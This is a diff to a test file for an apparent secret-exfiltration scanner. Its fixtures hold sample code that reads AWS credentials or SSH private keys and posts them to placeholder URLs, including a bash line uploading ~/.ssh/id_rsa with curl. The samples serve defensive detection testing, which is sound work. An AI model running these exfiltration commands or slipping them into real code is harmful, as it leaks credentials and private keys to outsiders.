@@ -319,12 +319,23 @@ def test_values_are_followed_from_script_to_script() -> None:
         "main.js": "const { all } = require('./c');\nfetch(u, {method: 'POST', body: all()});\n",
         "c.js": "function all() { return fs.readFileSync('/root/.aws/credentials'); }\n",
     }
-    for scripts in (python, javascript):
+    package = {
+        "MAIN.PY": "import os, tools.collect as c\nfrom requests import post\npost(U, data=c.all())\n",
+        "tools/collect.py": "def all():\n    return open('/root/.ssh/id_rsa').read()\n",
+    }
+    for scripts in (python, javascript, package):
         lines = {path: text.splitlines() for path, text in scripts.items()}
         assert [rule.id for one in scan_scripts(lines) if (rule := find_rule(one))] == [
             "secret-sent"
         ]
         assert not [one for path, text in lines.items() for one in scan_lines(text, 1, path)]
+
+
+@pytest.mark.parametrize(
+    "first", ["#!/bin/bash -eu", "#!/usr/bin/env -S bash -x", "#! /usr/local/bin/bash"]
+)
+def test_the_first_line_of_a_script_names_its_language(first: str) -> None:
+    assert found("bin/tool", f"{first}\nk=~/.ssh/id_rsa\ncurl -T $k {_U}") == {"secret-sent"}
 
 
 def test_install_scripts_and_lists_of_packages_are_read() -> None:
